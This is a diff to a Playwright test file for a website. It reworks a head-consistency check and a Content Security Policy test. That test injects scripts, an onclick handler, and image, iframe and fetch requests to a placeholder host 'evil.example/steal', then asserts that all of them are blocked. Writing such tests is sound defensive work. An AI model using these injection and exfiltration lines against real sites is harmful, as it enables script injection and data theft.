@@ -1,6 +1,5 @@
 import type { Page } from "@playwright/test";
 import { NOT_FOUND, ROUTES, type Route } from "../routes";
-import { SITE_ADDRESS } from "../site-content";
 import { hydrated, pageFaults, SMALLEST_PX, touch, WINDOW_HEIGHT_PX } from "./open-page";
 import { collectProblems, expect, followRequests, test } from "./strict-test";
 
@@ -17,7 +16,7 @@ test.describe("every address", () => {
   test.use({ expectedProblems: /status of 404|^404: .*no-such-page/ });
 
   for (const [name, routes] of WALK)
-    test(`the ${name} load without a problem, have the right head, show every picture and fit the smallest phone`, async ({ page }) => {
+    test(`the ${name} load without a problem, keep their head, show every picture and fit the smallest phone`, async ({ page }) => {
       const problems: string[] = [];
       for (const route of routes) problems.push(...(await problemsOf(page, route)).map((problem) => `${route.path} ${problem}`));
       expect(problems).toEqual([]);
@@ -29,72 +28,54 @@ async function problemsOf(page: Page, route: Route): Promise<string[]> {
   const requestsFinished = followRequests(page);
   await page.setViewportSize({ width: SMALLEST_PX, height: WINDOW_HEIGHT_PX });
   const response = await page.goto(route.path, { waitUntil: "domcontentloaded" });
+  const servedHead = await headOf(page);
   await touch(page);
   await hydrated(page);
   const isFound = route !== NOT_FOUND;
   if (response?.status() !== (isFound ? 200 : 404)) problems.push(`has the status ${response?.status()}`);
-  problems.push(...(await headProblems(page, route)), ...(await page.evaluate(pageFaults)));
+  if ((await headOf(page)) !== servedHead) problems.push(`has another head after hydration: ${await headOf(page)}`);
+  problems.push(...(await page.evaluate(pageFaults)));
   await requestsFinished();
   page.removeAllListeners();
   return problems.filter((problem) => isFound || !/status of 404|^404: .*no-such-page/.test(problem));
 }
 
-/** Compares the head after hydration with the page's file in data/. tests/html reads what the server sends. */
-async function headProblems(page: Page, route: Route): Promise<string[]> {
-  const isFound = route !== NOT_FOUND;
-  const found = await page.evaluate(() => {
-    const all = (selector: string, attribute: string) =>
-      [...document.head.querySelectorAll(selector)].map((element) => element.getAttribute(attribute));
-    return {
-      title: document.title,
-      description: all('meta[name="description"]', "content"),
-      robots: all('meta[name="robots"]', "content"),
-      canonical: all('link[rel="canonical"]', "href"),
-      structuredData: document.querySelectorAll('script[type="application/ld+json"]').length,
-    };
+/** @returns what search engines read. tests/html compares what the server sends with data/ */
+const headOf = (page: Page): Promise<string> =>
+  page.evaluate(() => {
+    const read = document.head.querySelectorAll("title, meta[name], link[rel=canonical], script[type='application/ld+json']");
+    return [...read]
+      .map((element) => element.outerHTML)
+      .sort()
+      .join("\n");
   });
-  const expected: typeof found = {
-    title: route.seo.title,
-    description: [route.seo.description],
-    robots: isFound ? [] : ["noindex"],
-    canonical: isFound ? [SITE_ADDRESS + route.path] : [],
-    structuredData: 1,
-  };
-  const headings = await page.locator("h1:visible").filter({ hasText: /\S/ }).count();
-  const [head, wanted] = [JSON.stringify(found), JSON.stringify(expected)];
-  return [
-    ...(head === wanted ? [] : [`has the head ${head}, not ${wanted}`]),
-    ...(headings === 1 ? [] : [`has ${headings} main headings`]),
-  ];
-}
 
-for (const path of ["/", NOT_FOUND.path])
-  test.describe(`on ${path}`, () => {
-    test.use({ expectedProblems: /^policy|status of 404|^404: .*no-such-page|evil\.example|Content Security/ });
+test.describe("if somebody finds a way to change the page,", () => {
+  test.use({ expectedProblems: /^policy|evil\.example|Content Security/ });
 
-    test("an injected script does not run, and no data can be sent to another server", async ({ page }) => {
-      const foreign: string[] = [];
-      await page.route("https://evil.example/**", (route) => {
-        foreign.push(route.request().url());
-        return route.fulfill({ body: "" });
-      });
-      await page.goto(path);
-      const outcome = await page.evaluate(async () => {
-        const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
-        add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
-        add("script", { src: "https://evil.example/a.js" });
-        add("img", { src: "https://evil.example/a.png" });
-        add("iframe", { src: "https://evil.example/frame" });
-        document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
-        document.body.lastElementChild?.dispatchEvent(new MouseEvent("click"));
-        const sent = await fetch("https://evil.example/steal").then(
-          () => "sent",
-          () => "blocked",
-        );
-        const { inline, handler } = document.documentElement.dataset;
-        return { inline, handler, sent };
-      });
-      expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked" });
-      expect(foreign).toEqual([]);
+  test("an injected script does not run, and no data can be sent to another server", async ({ page }) => {
+    const foreign: string[] = [];
+    await page.route("https://evil.example/**", (route) => {
+      foreign.push(route.request().url());
+      return route.fulfill({ body: "" });
     });
+    await page.goto("/");
+    const outcome = await page.evaluate(async () => {
+      const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
+      add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
+      add("script", { src: "https://evil.example/a.js" });
+      add("img", { src: "https://evil.example/a.png" });
+      add("iframe", { src: "https://evil.example/frame" });
+      document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
+      document.body.lastElementChild?.dispatchEvent(new MouseEvent("click"));
+      const sent = await fetch("https://evil.example/steal").then(
+        () => "sent",
+        () => "blocked",
+      );
+      const { inline, handler } = document.documentElement.dataset;
+      return { inline, handler, sent };
+    });
+    expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked" });
+    expect(foreign).toEqual([]);
   });
+});
